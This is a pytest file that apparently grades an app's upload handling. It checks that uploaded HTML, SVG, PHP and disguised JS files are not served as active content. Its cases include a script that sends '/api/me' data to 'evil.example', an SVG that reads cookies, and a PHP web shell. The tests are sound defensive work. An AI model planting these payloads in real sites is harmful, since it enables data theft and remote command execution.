import importlib
import io
import os

import pytest

mod = importlib.import_module(os.environ.get("CASE_MODULE", "app"))


ACTIVE_TYPES = {"text/html", "image/svg+xml", "application/xhtml+xml", "text/javascript",
                "application/javascript", "application/x-httpd-php", "text/xml", "application/xml"}
ACTIVE_EXTS = {"html", "htm", "xhtml", "shtml", "svg", "js", "mjs", "php", "phtml", "phar"}


def _is_active(resp, name):
    ext = name.lower().rsplit(".", 1)[-1]
    inline = "attachment" not in resp.headers.get("Content-Disposition", "").lower()
    return inline and (resp.mimetype in ACTIVE_TYPES or ext in ACTIVE_EXTS)


@pytest.fixture()
def client(tmp_path):
    return mod.create_app(str(tmp_path / "static")).test_client()


@pytest.mark.parametrize("name,data", [
    ("invoice.html", b"<script>fetch('/api/me').then(r=>r.text()).then(t=>location='//evil.example/?'+t)</script>"),
    ("logo.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(document.cookie)'/>"),
    ("shell.php", b"<?php system($_GET['c']); ?>"),
    ("report.pdf.js", b"alert(1)"),
])
def test_active_content_is_not_published(client, tmp_path, name, data):
    client.post("/documents", data={"document": (io.BytesIO(data), name)},
                content_type="multipart/form-data")
    uploads = tmp_path / "static" / "uploads"
    published = [p.name for p in uploads.iterdir()] if uploads.is_dir() else []
    served = []
    for n in published:
        resp = client.get(f"/static/uploads/{n}")
        if resp.status_code == 200 and resp.data == data and _is_active(resp, n):
            served.append(n)
    assert not served, f"uploaded {name} is served from the static folder as {served}"
